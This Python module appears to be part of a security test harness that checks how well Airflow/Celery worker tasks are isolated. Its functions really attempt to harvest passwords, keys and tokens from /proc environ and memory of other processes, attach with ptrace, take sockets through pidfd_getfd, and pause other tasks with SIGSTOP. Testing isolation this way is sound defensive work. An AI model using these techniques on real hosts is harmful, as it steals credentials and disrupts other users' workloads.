"""Attacks on this process's surroundings: environments, memory, descriptors, signals."""

from __future__ import annotations

import contextlib
import ctypes
import os
import signal
import socket
import time
from collections.abc import Callable
from pathlib import Path

from mallory_attacks import loot
from mallory_attacks.attack import Facts, Refused, attack

PTRACE_SEIZE = 0x4206  # linux/ptrace.h
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
KINDS = ("database_password", "broker_password", "fernet_key", "api_key", "jwt_secret", "admin_password")


def _environment(kind: str) -> Callable[[Facts], str]:
    def search(facts: Facts) -> str:
        value = loot.own_environment(facts).get(kind)
        if value is None:
            raise Refused(f"no {kind} in this process's environment")
        return f"{kind} of {len(value)} characters"

    search.__name__, search.__doc__ = f"environment_{kind}", f"find the {kind} in its own environment"
    return search


for each in KINDS:
    attack(_environment(each))


@attack
def environment_database_address(facts: Facts) -> str:
    """Find the host of the database in its own environment."""
    host, port = facts.database
    for name, value in os.environ.items():
        if f"{host}:{port}" in value or name == "DATABASE_HOST":
            return f"in {name}"
    raise Refused("no variable names the database")


def _secrets_of(pids: list[int], facts: Facts, read: Callable[[int], dict[str, str]]) -> str:
    if not pids:
        raise Refused("no such process")
    readable, found = 0, set()
    for pid in pids:
        with contextlib.suppress(OSError):
            found |= set(read(pid))
            readable += 1
    if not found:
        raise Refused(f"no secret in the {readable} of {len(pids)} processes that could be read")
    return f"{', '.join(sorted(found))} in {readable} of {len(pids)} processes"


def _environ_of(facts: Facts) -> Callable[[int], dict[str, str]]:
    return lambda pid: loot.secrets_in(Path(f"/proc/{pid}/environ").read_bytes(), facts)


def _memory_of(facts: Facts) -> Callable[[int], dict[str, str]]:
    return lambda pid: loot.secrets_in_memory(pid, facts)


@attack
def environ_of_parent(facts: Facts) -> str:
    """Find secrets in /proc/PID/environ of its parent."""
    return _secrets_of(loot.parents()[:1], facts, _environ_of(facts))


@attack
def environ_of_ancestors(facts: Facts) -> str:
    """Find secrets in /proc/PID/environ of its grandparents, up to the container's first process."""
    return _secrets_of(loot.parents()[1:], facts, _environ_of(facts))


@attack
def environ_of_first_process(facts: Facts) -> str:
    """Find secrets in /proc/1/environ."""
    return _secrets_of([1], facts, _environ_of(facts))


@attack
def environ_of_all(facts: Facts) -> str:
    """Find secrets in /proc/PID/environ of any process that is no ancestor: other tasks, other containers."""
    return _secrets_of([pid for pid in loot.processes() if pid not in loot.parents()], facts, _environ_of(facts))


@attack
def memory_of_itself(facts: Facts) -> str:
    """Find secrets in its own memory, which a fork inherits."""
    return _secrets_of([os.getpid()], facts, _memory_of(facts))


@attack
def memory_of_parent(facts: Facts) -> str:
    """Find secrets in /proc/PID/mem of its parent."""
    return _secrets_of(loot.parents()[:1], facts, _memory_of(facts))


@attack
def memory_of_ancestors(facts: Facts) -> str:
    """Find secrets in /proc/PID/mem of its grandparents, Celery's main process among them."""
    return _secrets_of(loot.parents()[1:], facts, _memory_of(facts))


@attack
def python_objects(facts: Facts) -> str:
    """Find secrets in the texts of its own Python objects."""
    found = loot.objects(facts)
    if not found:
        raise Refused("no secret in any object")
    return ", ".join(sorted(found))


@attack
def ptrace_parent(facts: Facts) -> str:
    """Attach to its parent with ptrace."""
    return _ptrace(loot.parents()[0])


@attack
def ptrace_ancestors(facts: Facts) -> str:
    """Attach to Celery's main process with ptrace."""
    return _ptrace(loot.parents()[-1])


def _ptrace(pid: int) -> str:
    """Attach from a process of its own, whose end detaches again."""
    child = os.fork()
    if child == 0:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        os._exit(0 if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0 else ctypes.get_errno())
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code != 0:
        raise Refused(f"ptrace: {os.strerror(code)}")
    return f"attached to {loot.command_of(pid)}"


def _server_sockets(facts: Facts, numbers: list[int]) -> list[str]:
    found = []
    for number in numbers:
        with contextlib.suppress(OSError):
            copy = socket.socket(fileno=os.dup(number))
            with contextlib.closing(copy):
                peer = copy.getpeername()
                if copy.family in (socket.AF_INET, socket.AF_INET6):
                    name = {facts.broker[1]: "broker", facts.database[1]: "database"}.get(peer[1], "other")
                    found.append(name)
    return found


def _descriptors(pid: int | str = "self") -> list[int]:
    return [int(path.name) for path in Path(f"/proc/{pid}/fd").iterdir()]


def _target(number: int, pid: int | str = "self") -> str:
    return str(Path(f"/proc/{pid}/fd/{number}").readlink())


@attack
def inherited_server_connections(facts: Facts) -> str:
    """Find open connections to broker or database among its own descriptors."""
    found = [name for name in _server_sockets(facts, _descriptors()) if name in ("broker", "database")]
    if not found:
        raise Refused("no descriptor is connected to a server")
    return f"{len(found)} connections to {', '.join(sorted(set(found)))}"


@attack
def inherited_control_connection(facts: Facts) -> str:
    """Find the connection by which workloads are handed over among its own descriptors: it keeps message boundaries."""
    found = 0
    for number in _descriptors():
        with contextlib.suppress(OSError):
            copy = socket.socket(fileno=os.dup(number))
            with contextlib.closing(copy):
                found += copy.family == socket.AF_UNIX and copy.type == socket.SOCK_SEQPACKET
    if not found:
        raise Refused("no such descriptor")
    return f"{found} of them"


@attack
def inherited_foreign_pipes(facts: Facts) -> str:
    """Find pipes of Celery's pool among its own descriptors: those that its grandparent holds, too."""
    ours = {}
    for number in _descriptors():
        with contextlib.suppress(OSError):
            target = _target(number)
            if target.startswith(("pipe:", "socket:")) and number > 2:
                ours[number] = target
    theirs = set()
    for number in _descriptors(loot.parents()[-1]):
        with contextlib.suppress(OSError):
            theirs.add(_target(number, loot.parents()[-1]))
    shared = [number for number, target in ours.items() if target in theirs]
    if not shared:
        raise Refused(f"none of {len(ours)} pipes and sockets belongs to the first process")
    return f"{len(shared)} of {len(ours)} pipes and sockets are the first process's"


@attack
def many_inherited_descriptors(facts: Facts) -> str:
    """Count its inherited pipes and sockets; a task needs those to its supervisor and three for its output."""
    count = 0
    for number in _descriptors():
        with contextlib.suppress(OSError):
            count += _target(number).startswith(("pipe:", "socket:"))
    if count <= 8:
        raise Refused(f"{count} pipes and sockets")
    return f"{count} pipes and sockets"


@attack
def descriptors_of_ancestors(facts: Facts) -> str:
    """Take a connection from a process above it with pidfd_getfd."""
    libc = ctypes.CDLL(None, use_errno=True)
    taken = []
    for pid in loot.parents():
        handle = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
        if handle < 0:
            continue
        for number in range(3, 64):
            copy = libc.syscall(SYS_PIDFD_GETFD, handle, number, 0)
            if copy >= 0:
                taken += [name for name in _server_sockets(facts, [copy]) if name in ("broker", "database")]
                os.close(copy)
        os.close(handle)
    if not taken:
        raise Refused("no descriptor connected to a server could be taken")
    return f"took {len(taken)} connections to {', '.join(sorted(set(taken)))}"


def _stop_for_a_moment(pid: int) -> str:
    command = loot.command_of(pid)
    os.kill(pid, signal.SIGSTOP)
    time.sleep(0.2)
    state = loot.stat_of(pid)[0]
    os.kill(pid, signal.SIGCONT)
    if state != "T":
        raise Refused(f"the signal had no effect, state {state}")
    return f"stopped and continued: {command}"


@attack
def stop_the_main_process(facts: Facts) -> str:
    """Stop the container's first process, and with it all tasks of the worker, by a signal."""
    return _stop_for_a_moment(loot.parents()[-1])


@attack
def stop_another_task(facts: Facts) -> str:
    """Stop the process of another DAG's task on the same worker by a signal."""
    return _stop_for_a_moment(_victims_process(facts))


@attack
def memory_of_another_task(facts: Facts) -> str:
    """Read another task's memory on the same worker: the token of its supervisor, or the text it holds."""
    pid = _victims_process(facts)
    for region in loot.memory(pid):
        if b"the victim's " + b"own memory" in region:
            return "read a text that only the victim holds"
    raise Refused("the memory could be read, and the text is not there")


@attack
def tokens_of_other_tasks(facts: Facts) -> str:
    """Find the tokens of other tasks in its own memory and in that of every process it can read."""
    others = set()
    places: list[int | str] = ["self", *loot.processes()]
    for pid in places:
        with contextlib.suppress(OSError):
            others |= set(loot.tokens(pid)) - {facts.own["id"]}
    if not others:
        raise Refused("no other token in readable memory")
    return f"{len(others)} tokens"


def _victims_process(facts: Facts) -> int:
    for pid in loot.processes():
        with contextlib.suppress(OSError):
            if loot.command_of(pid).startswith(f"airflow worker -- {facts.victim['hold']}"):
                return pid
    raise LookupError("the victim's process is not on this worker")
